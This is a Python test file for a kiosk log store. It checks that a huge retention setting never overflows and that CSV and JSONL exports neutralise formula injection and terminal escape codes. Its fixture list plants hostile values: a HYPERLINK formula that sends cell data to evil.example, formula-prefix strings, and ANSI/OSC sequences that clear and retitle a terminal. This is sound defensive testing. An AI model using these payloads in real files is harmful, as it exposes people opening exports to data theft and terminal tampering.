"""Log hardening: a huge retention never overflows, the export never arms a spreadsheet or a terminal."""

from __future__ import annotations

import argparse
import csv
import io
import json
import sqlite3

from log_support import keypair, store, turn

from kiosk.config import Config
from kiosk.store import audit, cli, sealed
from kiosk.store.log import META_FIELDS, LogStore, cutoff_period, period_of

PLANTED = [
    '=HYPERLINK("https://evil.example/?q="&A1, "click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "bell\x07 and escape \x1b[2J\x1b]0;pwned\x07 and CSI \x9b31m",
    "line one\nline two",
]


def test_a_huge_retention_keeps_everything_instead_of_overflowing(tmp_path):
    """Issue 16 item 4: time.gmtime overflowed and the writer dropped every turn."""
    assert cutoff_period(1_790_000_000.0, 10**12) == "0000-00-00"
    assert cutoff_period(1_790_000_000.0, 30) < period_of(1_790_000_000.0)
    assert period_of(1e30) == "9999-12-31" and period_of(-5) == "1970-01-01" and period_of(float("nan"))
    op = keypair(tmp_path)
    with store(tmp_path / "log.db", op, retention_days=10**12) as s:
        assert s.append(turn(1)) == 1
        assert s.purge()["records"] == 0
        report = audit.verify(s, sealed.load_private_key(tmp_path / "operator.key", None))
    assert report.ok and report.records == 1


def test_the_table_has_exactly_the_record_types_columns(tmp_path):
    with store(tmp_path / "log.db", keypair(tmp_path)) as s:
        columns = [r[1] for r in s.db.execute("PRAGMA table_info(records)")]
    assert columns == [*META_FIELDS, "content", "prev", "hash"]


def _export(tmp_path, fmt: str) -> str:
    op = keypair(tmp_path)
    db = tmp_path / "log.db"
    with store(db, op, redact_pii=False) as s:
        for i, text in enumerate(PLANTED):
            s.append(turn(i, question=text, answer=text))
    p = argparse.ArgumentParser()
    cli.register(p.add_subparsers(dest="command"))
    out = tmp_path / f"out.{fmt}"
    args = p.parse_args(["logs", "export", "--key", str(tmp_path / "operator.key"), "--db", str(db),
                         "--format", fmt, "--out", str(out)])  # fmt: skip
    assert args.func(args, Config()) == 0
    return out.read_text("utf-8")


def test_csv_export_neutralises_formulas_and_control_characters(tmp_path):
    text = _export(tmp_path, "csv")
    for bad in ("\x07", "\x1b", "\x9b", "\r="):
        assert bad not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    questions = [r["question"] for r in rows]
    for q in questions:
        assert not q.startswith(("=", "+", "-", "@", "\t", "\r")), q
    assert questions[0] == "'" + PLANTED[0]
    assert questions[-1] == "line one\nline two"  # newlines survive, quoted
    assert rows[0]["ttft_ms"] == "120.5"  # numbers stay numbers


def test_jsonl_export_stays_exact_and_terminal_safe(tmp_path):
    text = _export(tmp_path, "jsonl")
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert [json.loads(line)["question"] for line in text.splitlines()] == PLANTED


def test_reading_a_log_with_a_huge_retention_from_the_cli(tmp_path):
    op = keypair(tmp_path)
    with store(tmp_path / "log.db", op) as s:
        s.append(turn(1))
    with LogStore(tmp_path / "log.db", readonly=True, retention_days=10**12) as s:
        assert audit.verify(s).ok
    with sqlite3.connect(tmp_path / "log.db") as c:
        assert c.execute("SELECT count(*) FROM records").fetchone()[0] == 1
